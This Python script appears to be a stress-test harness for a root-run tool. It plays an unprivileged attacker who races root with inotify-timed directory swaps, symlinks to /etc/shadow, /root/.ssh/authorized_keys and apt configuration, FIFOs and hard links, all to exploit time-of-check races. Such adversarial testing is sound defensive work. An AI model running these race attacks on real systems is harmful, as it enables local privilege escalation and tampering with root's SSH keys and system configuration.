"""What an unprivileged user of a node may try, as fast as it goes.

Root reads, writes and deletes files in the home directory of this user. Directories and files are
swapped for links, pipes and other files at any time, and at the very moment root touches them, so
that root might act on /etc/prize or /root instead. Attempts are counted in ~/attempts.
"""

import ctypes
import os
import random
import struct
import sys
import time

HOME, SECONDS = sys.argv[1], float(sys.argv[2])
PRIZE = "/etc/prize"
libc = ctypes.CDLL(None, use_errno=True)
EXCHANGE, HERE = 2, -100


def quietly(act, *arguments):
    try:
        act(*arguments)
    except OSError:
        pass


def swap(one, other):
    libc.renameat2(HERE, one.encode(), HERE, other.encode(), EXCHANGE)


def remove(path):
    quietly(os.unlink, path)
    quietly(os.rmdir, path)


def link(path, target):
    remove(path)
    quietly(os.symlink, target, path)


def swaps(directory, target):
    """Swaps a directory for a link, all the time."""
    other = directory + ".other"
    link(other, target)
    while True:
        swap(directory, other)
        yield
        time.sleep(random.choice([0, 0.0002, 0.001, 0.004]))


def kinds(path):
    """Puts one kind of thing after another where root expects a file."""
    while True:
        for target in ["/etc/shadow", "/root/.ssh/authorized_keys", PRIZE + "/authorized_keys"]:
            link(path, target)
            yield
            time.sleep(0.002)
        for make in [
            lambda: os.mkfifo(path),
            lambda: os.mkdir(path),
            lambda: os.truncate(os.open(path, os.O_CREAT | os.O_WRONLY), 1 << 40),
            lambda: os.link("/etc/passwd", path),
        ]:
            remove(path)
            quietly(make)
            yield
            time.sleep(0.002)
        remove(path)
        time.sleep(random.choice([0, 0.02, 0.3]))


def timed(directories):
    """Waits for root to touch something, and swaps what it touches at once."""
    inotify = libc.inotify_init1(0)
    every = 0x2 | 0x4 | 0x8 | 0x20 | 0x40 | 0x80 | 0x100 | 0x200
    for directory in directories:
        libc.inotify_add_watch(inotify, directory.encode(), every)
    while True:
        data = os.read(inotify, 65536)
        while data:
            _, mask, _, length = struct.unpack_from("iIII", data)
            name = data[16 : 16 + length].split(b"\0")[0].decode(errors="replace")
            data = data[16 + length :]
            for directory in directories:
                path = directory + "/" + name
                if name.endswith(".homestak-new") and random.random() < 0.5:
                    link(path, random.choice([PRIZE + "/new", PRIZE, "/root/.ssh/authorized_keys"]))
                else:
                    swap(directory, directory + ".other")
            yield


def main():
    ssh, conf = HOME + "/.ssh", HOME + "/conf.d"
    for directory in [ssh, conf]:
        quietly(os.mkdir, directory)
    attacks = [
        swaps(ssh, PRIZE),
        swaps(conf, PRIZE),
        swaps(HOME + "/own", "/etc/apt/apt.conf.d"),
        kinds(ssh + "/authorized_keys"),
        kinds(ssh + "/authorized_keys2"),
        timed([ssh, conf]),
    ]
    end = time.monotonic() + SECONDS
    children = []
    for nth, attack in enumerate(attacks):
        child = os.fork()
        if child:
            children.append(child)
            continue
        count = 0
        for _ in attack:
            count += 1
            if count % 50 == 0:
                with open(f"{HOME}/attempts.{nth}", "w") as file:
                    file.write(str(count))
            if time.monotonic() > end:
                break
        os._exit(0)
    time.sleep(SECONDS + 0.5)
    for child in children:
        quietly(os.kill, child, 9)
        os.waitpid(child, 0)


main()
